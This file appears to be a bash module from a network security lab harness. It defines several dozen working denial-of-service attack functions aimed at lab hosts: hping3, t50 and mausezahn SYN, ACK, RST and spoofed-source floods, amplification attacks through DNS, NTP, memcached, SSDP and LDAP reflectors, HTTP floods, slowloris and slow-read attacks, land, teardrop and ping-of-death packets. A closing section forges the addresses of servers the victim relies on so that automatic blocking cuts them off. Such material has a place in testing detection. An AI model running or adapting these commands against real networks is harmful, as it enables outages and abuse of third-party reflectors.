# Floods and slow denial of service; rates that a small laboratory carries. Sourced by attacks.sh.
# shellcheck shell=bash disable=SC2034

tool hping_ack dos-flood a1 $WEB; hping_ack() { on 20 hping3 -q -A -p 80 -c 5000 -i u1000 $WEB; }
tool hping_rst dos-flood a2 $WEB; hping_rst() { on 20 hping3 -q -R -p 80 -c 5000 -i u1000 $WEB; }
tool hping_xmas dos-flood a1 $WEB; hping_xmas() { on 20 hping3 -q -F -S -P -U -p 80 -c 5000 -i u1000 $WEB; }
tool hping_forged dos-flood a1 $WEB -; hping_forged() { on 20 hping3 -q -S --rand-source -p 80 -c 6000 -i u800 $WEB; }
tool hping_forged_udp dos-flood a1 10.20.0.53 -; hping_forged_udp() { on 20 hping3 -q --udp --rand-source -d 200 -p 53 -c 6000 -i u800 10.20.0.53; }
tool hping_slow_syn dos-flood a3 $WEB; hping_slow_syn() { on 30 hping3 -q -S -p 443 -c 2500 -i u10000 $WEB; }
tool hping_big_icmp dos-flood a1 $SSH; hping_big_icmp() { on 20 hping3 -q --icmp -d 1400 -c 4000 -i u2000 $SSH; }
tool hping_fragments dos-flood a1 $WEB; hping_fragments() { on 20 hping3 -q --udp -x -d 1200 -p 9999 -c 4000 -i u1500 $WEB; }
tool hping_udp_random dos-flood a2 $SSH; hping_udp_random() { on 20 hping3 -q --udp -d 512 -p ++1024 -c 5000 -i u1000 $SSH; }
tool dns_reflect dos-flood a1 $WEB -; dns_reflect() { on 20 python3 "$LAB_HOME/tools/reflect.py" $WEB 53 600 5; }
tool ntp_reflect dos-flood a1 $WEB -; ntp_reflect() { on 20 python3 "$LAB_HOME/tools/reflect.py" $WEB 123 600 5; }
tool memcached_reflect dos-flood a1 $WEB -; memcached_reflect() { on 20 python3 "$LAB_HOME/tools/reflect.py" $WEB 11211 300 5; }
tool dns_queries dos-flood a1 10.20.0.53; dns_queries() { on 20 python3 "$LAB_HOME/tools/dns_queries.py" 10.20.0.53 1200 6; }
tool t50_mix dos-flood a1 $WEB; t50_mix() { on 20 t50 $WEB --protocol TCP --dport 80 -S --threshold 8000 -s 203.0.113.66; }
tool mausezahn_syn dos-flood a1 $WEB; mausezahn_syn() { on 20 mausezahn eth0 -c 5000 -d 1000 -b "$(on 5 ip neigh show 203.0.113.1 | awk '{ print $3; exit }' | grep : || echo 02:00:5e:00:01:01)" -A 203.0.113.66 -B $WEB -t tcp 'dp=80,flags=syn,sp=1024-60000'; }
tool nping_syn dos-flood a2 $WEB; nping_syn() { on 20 nping --tcp --flags syn -p 443 --rate 800 -c 4000 -q $WEB; }
tool connect_flood dos-flood a1 $WEB; connect_flood() { on 30 python3 "$LAB_HOME/tools/connect_flood.py" $WEB 80 400 8; }
tool wrk_flood dos-flood a1 $WEB; wrk_flood() { on 20 wrk -t 2 -c 50 -d 5 http://$WEB/team.html; }
tool siege_flood dos-flood a2 $WEB; siege_flood() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 20 siege -b -c 40 -t 5S http://$WEB/news.html); }
tool hey_flood dos-flood a1 $WEB; hey_flood() { on 20 hey -n 4000 -c 50 -disable-keepalive http://$WEB/team.html; }
tool httperf_flood dos-flood a1 $WEB; httperf_flood() { on 30 httperf --hog --server $WEB --uri /team.html --num-conn 3000 --rate 500 --timeout 3; }
tool ab_tls_flood dos-flood a1 $WEB; ab_tls_flood() { on 30 ab -q -r -s 5 -n 2500 -c 30 https://$WEB/team.html; }
tool hping_fin dos-flood a1 $WEB; hping_fin() { on 20 hping3 -q -F -p 80 -c 5000 -i u1000 $WEB; }
tool hping_synack dos-flood a2 $WEB -; hping_synack() { on 20 hping3 -q -S -A --rand-source -s 443 -p ++2000 -c 5000 -i u1000 $WEB; }
tool ssdp_reflect dos-flood a1 $WEB -; ssdp_reflect() { on 20 python3 "$LAB_HOME/tools/reflect.py" $WEB 1900 600 5; }
tool ldap_reflect dos-flood a1 $WEB -; ldap_reflect() { on 20 python3 "$LAB_HOME/tools/reflect.py" $WEB 389 600 5; }
tool whole_fragments dos-flood a1 $WEB; whole_fragments() { on 20 hping3 -q --udp -f -m 400 -d 1200 -p 9999 -c 2500 -i u2500 $WEB; }
tool data_flood dos-flood a1 $WEB; data_flood() { on 20 python3 "$LAB_HOME/tools/data_flood.py" $WEB 80 8; }
tool carpet_udp dos-flood a1 10.20.0.0/24; carpet_udp() { on 20 python3 "$LAB_HOME/tools/carpet.py" 10.20.0 2000 6; }
tool land_attack malformed a1 $WEB -; land_attack() { on 10 hping3 -q -S -a $WEB -s 80 -k -p 80 -c 200 -i u5000 $WEB; }
tool teardrop malformed a1 $WEB; teardrop() { on 10 python3 "$LAB_HOME/tools/malformed.py" teardrop $WEB 40; }
tool ping_of_death malformed a1 $WEB; ping_of_death() { on 10 python3 "$LAB_HOME/tools/malformed.py" death $WEB 5; }

tool slowloris slow-dos a2 $WEB; slowloris() { on 40 python3 "$LAB_HOME/tools/slowloris.py" $WEB 80 120 35; }
tool slow_read slow-dos a1 $WEB; slow_read() { (cd "$LAB_DIR" && on 45 slowhttptest -X -c 100 -r 20 -w 10 -y 20 -n 5 -z 32 -k 3 -l 35 -p 3 -u http://$WEB/static/catalogue.csv); }
tool slow_header_tls slow-dos a1 $WEB; slow_header_tls() { (cd "$LAB_DIR" && on 45 slowhttptest -H -c 120 -r 20 -i 5 -x 8 -l 35 -p 3 -u https://$WEB/); }
tool slow_body_tls slow-dos a2 $WEB; slow_body_tls() { (cd "$LAB_DIR" && on 45 slowhttptest -B -c 120 -r 20 -i 5 -x 8 -l 35 -p 3 -u https://$WEB/); }
tool slow_mute slow-dos a1 $WEB; slow_mute() { on 45 python3 "$LAB_HOME/tools/connect_flood.py" $WEB 80 30 30 hold; }
tool slow_ten slow-dos a1 $WEB; slow_ten() { on 50 python3 "$LAB_HOME/tools/slowloris.py" $WEB 80 10 45; }

# Floods in the name of servers outside that the house calls: a block would shut them out, at an attacker's choice. The last two are sent by who he says he is: a stranger, and one who served a single page.
house_calls() {
    local i
    for i in $(seq 9); do
        ns desk dig +tries=1 +time=1 @198.51.100.53 "w$i.shop.example" >/dev/null 2>&1 || true
        ns desk curl -s -m 3 -o /dev/null http://198.51.100.80/prices.html || true
        ns desk curl -sk -m 3 -o /dev/null https://198.51.100.200/ || true
        sleep 1.5
    done
}
forged_name() { client house_calls; sleep 16; on 20 hping3 -q "$@" $WEB; }
for at in forged_resolver_udp=198.51.100.53 forged_resolver_syn=198.51.100.53 forged_site_syn=198.51.100.80 forged_site_slow=198.51.100.80 forged_site_rst=198.51.100.80 forged_site_icmp=198.51.100.80 forged_master_udp=198.51.100.200; do
    tool "${at%=*}" dos-flood a1 $WEB -; TOOL_FORGED[${at%=*}]=${at#*=}
done
forged_resolver_udp() { forged_name --udp -a 198.51.100.53 -s 53 -k -p ++1024 -d 120 -c 5000 -i u1000; }
forged_resolver_syn() { forged_name -S -a 198.51.100.53 -p 80 -c 5000 -i u1000; }
forged_site_syn() { forged_name -S -a 198.51.100.80 -p 443 -c 8000 -i u400; }
forged_site_slow() { forged_name -S -a 198.51.100.80 -p 80 -c 2500 -i u4000; }
forged_site_rst() { forged_name -R -a 198.51.100.80 -s 80 -p ++2000 -c 5000 -i u1000; }
forged_site_icmp() { forged_name --icmp -a 198.51.100.80 -d 40 -c 5000 -i u1000; }
forged_master_udp() { forged_name --udp -a 198.51.100.200 -d 600 -p 9999 -c 5000 -i u1000; }
tool stranger_syn dos-flood a3 $WEB; stranger_syn() { client house_calls; sleep 16; on 20 hping3 -q -S -p 80 -c 5000 -i u1000 $WEB; }
tool one_page_syn dos-flood site $WEB 198.51.100.80; one_page_syn() { ns desk curl -s -m 3 -o /dev/null http://198.51.100.80/prices.html; sleep 12; on 20 hping3 -q -S -p 80 -c 5000 -i u1000 $WEB; }
